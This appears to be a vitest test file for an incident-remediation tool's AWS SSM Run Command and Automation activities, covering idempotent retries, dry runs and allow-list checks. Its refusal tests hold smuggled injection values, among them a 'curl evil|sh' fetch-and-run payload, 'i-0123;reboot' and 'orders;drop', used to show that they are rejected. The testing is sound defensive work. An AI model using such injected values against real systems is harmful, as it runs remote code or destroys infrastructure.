// AWS SSM actions against moto in server mode (the real part behind the real SDK client): Run
// Command with idempotency across retried attempts, output capture, and a playbook with an
// ssm-command step end to end on a real Temporal dev server. moto 5.2.5 does not implement
// StartAutomationExecution / GetAutomationExecution / ListCommandInvocations (see README). Before
// sending, the activity reads the document (GetDocument) and refuses values outside its declared
// allowedPattern: moto has no AWS-owned documents, so AWS-RunShellScript is created here.
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { MockActivityEnvironment } from '@temporalio/testing';
import type { Info } from '@temporalio/activity';
import { ListCommandsCommand, SendCommandCommand, SSMClient, StartAutomationExecutionCommand, type StartAutomationExecutionCommandInput } from '@aws-sdk/client-ssm';
import { startSsmAutomationEndpoint, type SsmAutomationEndpoint } from '../../dev/ssm-automation.js';
import { automationClientToken, commandComment, createSsmActivities, type SsmCommandInput, type SsmCommandResult } from '../../activities/ssm.js';
import { actionEntry, runIncident, startMedic, type Medic } from '../support/medic.js';
import { AWS_RUN_SHELL_SCRIPT, startMoto, type Moto } from '../support/moto.js';
import { actionOutput } from '../../workflows/contracts-timeline.js';

let moto: Moto;
beforeAll(async () => {
  moto = await startMoto();
  await moto.createDocument('AWS-RunShellScript', AWS_RUN_SHELL_SCRIPT);
  await moto.createShippedDocument('Medic-CleanDisk');
  await moto.createShippedDocument('Medic-FailoverAuroraCluster', 'Automation');
}, 60_000);
afterAll(() => moto?.stop());

/** Runs an activity function with a Temporal activity context (heartbeats, attempt, details). */
const inActivity = async <I, R>(info: Partial<Info>, fn: (input: I) => Promise<R>, input: I): Promise<R> =>
  (await new MockActivityEnvironment(info).run(fn, input)) as R;
const acts = () => createSsmActivities({ ssm: moto.ssm, pollMs: { initial: 50, max: 200 } });
let n = 0;
const command = (over: Partial<SsmCommandInput> = {}): SsmCommandInput => ({
  documentName: 'AWS-RunShellScript',
  parameters: { commands: ['df -h /'] },
  instanceIds: ['i-0123456789abcdef0'],
  targets: [],
  idempotencyKey: `incident:disk:abc:run${++n}:step-0:try-1`,
  dryRun: false,
  timeoutMs: 10_000,
  ...over,
});
const refusedWith = async (run: Promise<unknown>): Promise<{ type?: string; nonRetryable?: boolean; message: string }> => {
  const err = (await run.then(
    () => undefined,
    (e: unknown) => e,
  )) as { type?: string; nonRetryable?: boolean; message: string } | undefined;
  if (!err) throw new Error('expected a refusal, but the activity succeeded');
  return err;
};
const commandsWith = async (comment: string) =>
  ((await moto.ssm.send(new ListCommandsCommand({}))).Commands ?? []).filter((c) => c.Comment === comment);

describe('ssmRunCommand against moto', () => {
  it('runs a document on an instance and reports the command, its status and per-instance output', async () => {
    const input = command();
    const r = await inActivity({}, acts().ssmRunCommand, input);
    expect(r).toMatchObject({ dryRun: false, status: 'Success', reused: false });
    expect(r.summary).toMatch(/^SSM AWS-RunShellScript on i-0123456789abcdef0 → Success \(command [0-9a-f-]{36}\)$/);
    expect(r.invocations).toEqual([{ instanceId: 'i-0123456789abcdef0', status: 'Success', responseCode: 0, output: '', error: '' }]);
    const sent = await commandsWith(commandComment(input.idempotencyKey));
    expect(sent.map((c) => [c.CommandId, c.DocumentName, c.Parameters])).toEqual([[r.commandId, 'AWS-RunShellScript', { commands: ['df -h /'] }]]);
  });

  it('a retried activity with the same key polls the command it sent instead of sending it again', async () => {
    const input = command();
    const first = await inActivity({ attempt: 1 }, acts().ssmRunCommand, input);
    const retried = await inActivity({ attempt: 2 }, acts().ssmRunCommand, input);
    expect(retried.commandId).toBe(first.commandId);
    expect(retried.reused).toBe(true);
    expect(retried.summary).toContain('found from an earlier attempt');
    expect(await commandsWith(commandComment(input.idempotencyKey))).toHaveLength(1);
  });

  it('an attempt that crashed after SendCommand: the next attempt finds that command by its Comment', async () => {
    const input = command();
    const crashed = await moto.ssm.send(
      new SendCommandCommand({
        DocumentName: input.documentName,
        Parameters: input.parameters,
        InstanceIds: input.instanceIds,
        Comment: commandComment(input.idempotencyKey),
      }),
    );
    const r = await inActivity({ attempt: 2 }, acts().ssmRunCommand, input);
    expect(r.commandId).toBe(crashed.Command?.CommandId);
    expect(r.reused).toBe(true);
    expect(await commandsWith(commandComment(input.idempotencyKey))).toHaveLength(1);
  });

  it('heartbeats carry the command id, and a retry resuming from them sends nothing', async () => {
    const input = command();
    const env = new MockActivityEnvironment();
    const beats: unknown[] = [];
    env.on('heartbeat', (d: unknown) => beats.push(d));
    const r = (await env.run(acts().ssmRunCommand, input)) as SsmCommandResult;
    expect(beats).toContainEqual({ commandId: r.commandId });
    const resumed = await inActivity({ attempt: 2, heartbeatDetails: { commandId: r.commandId } }, acts().ssmRunCommand, input);
    expect(resumed).toMatchObject({ commandId: r.commandId, reused: true, status: 'Success' });
    expect(await commandsWith(commandComment(input.idempotencyKey))).toHaveLength(1);
  });

  it('a new try of the step (a new key) sends a new command; a dry run sends none', async () => {
    const base = command();
    const a = await inActivity({}, acts().ssmRunCommand, base);
    const b = await inActivity({}, acts().ssmRunCommand, { ...base, idempotencyKey: base.idempotencyKey.replace('try-1', 'try-2') });
    expect(b.commandId).not.toBe(a.commandId);
    const dry = await inActivity({}, acts().ssmRunCommand, command({ dryRun: true }));
    expect(dry).toEqual({ dryRun: true, summary: 'dry run: would run SSM AWS-RunShellScript on i-0123456789abcdef0', durationMs: 0 });
    expect(await commandsWith(commandComment(`incident:disk:abc:run${n}:step-0:try-1`))).toHaveLength(0);
  });

  it('a long idempotency key still fits SendCommand’s 100-character Comment and stays unique', async () => {
    const long = `incident:${'x'.repeat(63)}:0123456789ab:deadbeef:step-3:try-`;
    const c1 = commandComment(`${long}1`);
    const c2 = commandComment(`${long}2`);
    expect(c1.length).toBeLessThanOrEqual(100);
    expect(c1).not.toBe(c2);
    const r = await inActivity({}, acts().ssmRunCommand, command({ idempotencyKey: `${long}1` }));
    expect(await commandsWith(c1)).toEqual([expect.objectContaining({ CommandId: r.commandId })]);
  });
});

describe('ssmRunCommand re-validates rendered values before sending (GetDocument, allow.ssm)', () => {
  it('a value outside the document parameter’s allowedPattern is refused; nothing is sent', async () => {
    const input = command({ documentName: 'Medic-CleanDisk', parameters: { Mountpoint: ["/'; curl evil|sh; '"] }, templated: ['Mountpoint'] });
    const err = await refusedWith(inActivity({}, acts().ssmRunCommand, input));
    expect(err).toMatchObject({ type: 'SsmRefused', nonRetryable: true });
    expect(err.message).toBe("refused: parameter `Mountpoint` value `/'; curl evil|sh; '` does not match `^/[A-Za-z0-9/_.-]*$` (document Medic-CleanDisk)");
    expect(await commandsWith(commandComment(input.idempotencyKey))).toHaveLength(0);
  });

  it('a parameter the document does not declare, or a templated one without allowedPattern, is refused', async () => {
    const unknown = command({ documentName: 'Medic-CleanDisk', parameters: { commands: ['id'] } });
    expect((await refusedWith(inActivity({}, acts().ssmRunCommand, unknown))).message).toBe('refused: document Medic-CleanDisk has no parameter `commands`');
    const templated = command({ parameters: { commands: ['df -h /var'] }, templated: ['commands'] });
    expect((await refusedWith(inActivity({}, acts().ssmRunCommand, templated))).message).toBe(
      'refused: parameter `commands` takes a value from alert data, but document AWS-RunShellScript declares no allowedPattern for it',
    );
    expect(await commandsWith(commandComment(unknown.idempotencyKey))).toHaveLength(0);
    expect(await commandsWith(commandComment(templated.idempotencyKey))).toHaveLength(0);
  });

  it('a malformed instance id is refused before any AWS call, also in a dry run', async () => {
    const input = command({ instanceIds: ['i-0123;reboot'], dryRun: true });
    expect((await refusedWith(inActivity({}, acts().ssmRunCommand, input))).message).toBe('refused: instance id `i-0123;reboot` does not match `^(i|mi)-[0-9a-f]{8,17}$`');
  });

  it('allow.ssm.instanceTags: the instance’s EC2 tags are read; an instance without them is refused', async () => {
    const ec2Acts = createSsmActivities({ ssm: moto.ssm, ec2: moto.ec2, pollMs: { initial: 50, max: 200 } });
    const [managed, other] = ['i-0a11ba5ed0000001a', 'i-0a11ba5ed0000002b'];
    await moto.tagInstance(managed, { 'medic-managed': 'true' });
    await moto.tagInstance(other, { 'medic-managed': 'false' });
    const allow = { instanceTags: { 'medic-managed': ['true'] } };
    const base = { documentName: 'Medic-CleanDisk', parameters: { Mountpoint: ['/var'] }, templated: ['Mountpoint'], allow };
    const bad = command({ ...base, instanceIds: [other] });
    expect((await refusedWith(inActivity({}, ec2Acts.ssmRunCommand, bad))).message).toBe(
      `refused: instance \`${other}\` is not allow-listed: tag \`medic-managed\` is \`false\`, allow.ssm.instanceTags.medic-managed wants true`,
    );
    expect(await commandsWith(commandComment(bad.idempotencyKey))).toHaveLength(0);
    const ok = command({ ...base, instanceIds: [managed] });
    const r = await inActivity({}, ec2Acts.ssmRunCommand, ok);
    expect(r.status).toBe('Success');
    const [sent] = await commandsWith(commandComment(ok.idempotencyKey));
    // (The activity also sends the DocumentVersion it checked; moto does not keep it.)
    expect(sent).toMatchObject({ DocumentName: 'Medic-CleanDisk', InstanceIds: [managed], Parameters: { Mountpoint: ['/var'] } });
  });

  it('tag targets are narrowed to the allow-listed tags, so SSM picks only allow-listed instances', async () => {
    // A moto of its own: moto adds every running instance to commands sent without Targets.
    const own = await startMoto();
    onTestFinished(() => own.stop());
    await own.createShippedDocument('Medic-CleanDisk');
    const ec2Acts = createSsmActivities({ ssm: own.ssm, ec2: own.ec2, pollMs: { initial: 50, max: 200 } });
    const web = await own.runInstance({ Role: 'web', 'medic-managed': 'true' });
    await own.runInstance({ Role: 'web', 'medic-managed': 'false' });
    const input = command({
      documentName: 'Medic-CleanDisk',
      parameters: { Mountpoint: ['/'] },
      instanceIds: [],
      targets: [{ key: 'tag:Role', values: ['web'] }],
      allow: { instanceTags: { 'medic-managed': ['true'] } },
    });
    await inActivity({}, ec2Acts.ssmRunCommand, input);
    const [sent] = (await own.ssm.send(new ListCommandsCommand({}))).Commands ?? [];
    expect(sent?.Targets).toEqual([
      { Key: 'tag:Role', Values: ['web'] },
      { Key: 'tag:medic-managed', Values: ['true'] },
    ]);
    expect(sent?.InstanceIds).toEqual([web]);
  });
});

describe('ssmAutomation against moto', () => {
  it('a rendered value outside the runbook parameter’s allowedPattern is refused before StartAutomationExecution', async () => {
    const run = inActivity({}, acts().ssmAutomation, {
      documentName: 'Medic-FailoverAuroraCluster',
      parameters: { DBClusterIdentifier: ['orders;drop'], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
      templated: ['DBClusterIdentifier'],
      idempotencyKey: 'incident:db:step-1:try-1',
      dryRun: false,
      timeoutMs: 5_000,
    });
    const err = await refusedWith(run);
    expect(err).toMatchObject({ type: 'SsmRefused', nonRetryable: true });
    expect(err.message).toBe('refused: parameter `DBClusterIdentifier` value `orders;drop` does not match `^[a-zA-Z][a-zA-Z0-9-]{0,62}$` (document Medic-FailoverAuroraCluster)');
  });

  it('a valid value passes the checks and reaches StartAutomationExecution (which moto 5.2.5 lacks)', async () => {
    const run = inActivity({}, acts().ssmAutomation, {
      documentName: 'Medic-FailoverAuroraCluster',
      parameters: { DBClusterIdentifier: ['orders-db'], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
      templated: ['DBClusterIdentifier'],
      allow: { parameters: { DBClusterIdentifier: ['~orders-[a-z0-9-]*'] } },
      idempotencyKey: 'incident:db:step-1:try-2',
      dryRun: false,
      timeoutMs: 5_000,
    });
    await expect(run).rejects.toThrow('StartAutomationExecution failed');
  });

  it('dry run starts nothing', async () => {
    const r = await inActivity({}, acts().ssmAutomation, {
      documentName: 'AWS-RestartEC2Instance',
      parameters: { InstanceId: ['i-0123456789abcdef0'] },
      idempotencyKey: 'k',
      dryRun: true,
      timeoutMs: 5_000,
    });
    expect(r).toEqual({ dryRun: true, summary: 'dry run: would start SSM Automation AWS-RestartEC2Instance', durationMs: 0 });
  });

  it('moto 5.2.5 does not implement StartAutomationExecution: the call reaches it and fails as a retryable server error', async () => {
    const run = inActivity({}, acts().ssmAutomation, {
      documentName: 'Medic-FailoverAuroraCluster',
      parameters: { DBClusterIdentifier: ['orders-db'], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
      idempotencyKey: 'incident:x:step-0:try-1',
      dryRun: false,
      timeoutMs: 5_000,
    });
    // A server fault (HTTP 500) is an outage to retry, not a permanent rejection.
    await expect(run).rejects.toThrow('StartAutomationExecution failed: the endpoint answered HTTP 500 with a body that is not an SSM API response');
    await expect(run).rejects.not.toHaveProperty('nonRetryable', true);
  });
});

describe('ssmAutomation against the SSM Automation test endpoint (dev/ssm-automation.ts; moto behind it)', () => {
  let endpoint: SsmAutomationEndpoint;
  let client: SSMClient;
  beforeAll(async () => {
    endpoint = await startSsmAutomationEndpoint({ moto: moto.url, runMs: 300 });
    client = new SSMClient({ endpoint: endpoint.url, region: 'us-east-1', credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } });
  });
  afterAll(async () => {
    client?.destroy();
    await endpoint?.close();
  });
  const automation = (idempotencyKey: string, cluster = 'orders-db') => ({
    documentName: 'Medic-FailoverAuroraCluster',
    parameters: { DBClusterIdentifier: [cluster], AutomationAssumeRole: ['arn:aws:iam::123456789012:role/MedicAutomationRole'] },
    idempotencyKey,
    dryRun: false,
    timeoutMs: 10_000,
  });
  const viaEndpoint = () => createSsmActivities({ ssm: client, pollMs: { initial: 50, max: 200 } });

  it('a retried attempt (no heartbeat details: its worker died) sends the same ClientToken and gets the execution it started; one execution runs', async () => {
    const first = await inActivity({ attempt: 1 }, viaEndpoint().ssmAutomation, automation('incident:db:abc:run1:step-0:try-1', 'orders-a'));
    expect(first).toMatchObject({ dryRun: false, status: 'Success' });
    const retried = await inActivity({ attempt: 2 }, viaEndpoint().ssmAutomation, automation('incident:db:abc:run1:step-0:try-1', 'orders-a'));
    expect(retried.executionId).toBe(first.executionId);
    const mine = endpoint.executions.filter((e) => e.parameters.DBClusterIdentifier?.[0] === 'orders-a');
    expect(mine).toHaveLength(1);
    expect(mine[0]).toMatchObject({ requests: 2, clientToken: automationClientToken('incident:db:abc:run1:step-0:try-1') });
    // The workflow's next try of the step has another key: another execution.
    const nextTry = await inActivity({}, viaEndpoint().ssmAutomation, automation('incident:db:abc:run1:step-0:try-2', 'orders-a'));
    expect(nextTry.executionId).not.toBe(first.executionId);
  });

  it('the endpoint answers like SSM: a reused ClientToken with other parameters is IdempotentParameterMismatch; an unknown runbook is refused', async () => {
    await inActivity({}, viaEndpoint().ssmAutomation, automation('incident:db:abc:run2:step-0:try-1', 'orders-b'));
    const send = (input: StartAutomationExecutionCommandInput) => client.send(new StartAutomationExecutionCommand(input));
    const token = automationClientToken('incident:db:abc:run2:step-0:try-1');
    await expect(send({ DocumentName: 'Medic-FailoverAuroraCluster', Parameters: { DBClusterIdentifier: ['orders-c'] }, ClientToken: token })).rejects.toMatchObject({ name: 'IdempotentParameterMismatch' });
    await expect(send({ DocumentName: 'No-Such-Runbook', ClientToken: automationClientToken('other') })).rejects.toMatchObject({ name: 'AutomationDefinitionNotFoundException' });
    await expect(send({ DocumentName: 'Medic-FailoverAuroraCluster', ClientToken: 'not-a-uuid' })).rejects.toMatchObject({ name: 'ValidationException' });
  });
});

describe('a playbook with an ssm-command step, end to end', () => {
  let m: Medic;
  beforeAll(async () => {
    m = await startMedic({ awsEndpoint: moto.url });
  });
  afterAll(() => m?.stop());

  it('the incident runs the command on moto once; command id, status and output land in the timeline', async () => {
    const { final, timeline } = await runIncident(
      m,
      {
        name: 'disk-full-ssm-e2e',
        match: { alertname: 'DiskFullE2E' },
        groupBy: ['alertname', 'instance_id'],
        target: 'ec2/{{labels.instance_id}}',
        allow: { ssm: { instanceIds: ['~i-0e2e[0-9a-f]+'] } },
        steps: [
          {
            name: 'clean-up-disk',
            action: 'ssm-command',
            timeout: '20s',
            params: {
              document: 'Medic-CleanDisk',
              instanceIds: ['{{labels.instance_id}}'],
              parameters: { Mountpoint: '{{labels.mountpoint}}', JournalMaxSize: '200M' },
            },
          },
        ],
      },
      { alertname: 'DiskFullE2E', instance_id: 'i-0e2e0e2e0e2e0e2e0', mountpoint: '/var', severity: 'warning' },
    );
    expect(final.status).toBe('resolved');
    const started = actionEntry(timeline, 'started');
    expect(started?.message).toContain('SSM Run Command Medic-CleanDisk on i-0e2e0e2e0e2e0e2e0');
    const finished = actionEntry(timeline, 'finished');
    expect(finished?.message).toMatch(/SSM Medic-CleanDisk on i-0e2e0e2e0e2e0e2e0 → Success \(command [0-9a-f-]{36}\)/);
    const data = actionOutput(finished) as { commandId: string; status: string; invocations: unknown[] };
    expect(data.status).toBe('Success');
    expect(data.invocations).toEqual([{ instanceId: 'i-0e2e0e2e0e2e0e2e0', status: 'Success', responseCode: 0, output: '', error: '' }]);
    const key = started?.kind === 'action.started' ? started.data.idempotencyKey : '';
    const sent = await commandsWith(commandComment(key));
    expect(sent).toHaveLength(1);
    expect(sent[0]).toMatchObject({
      CommandId: data.commandId,
      InstanceIds: ['i-0e2e0e2e0e2e0e2e0'],
      Parameters: { Mountpoint: ['/var'], JournalMaxSize: ['200M'] },
    });
  });
});
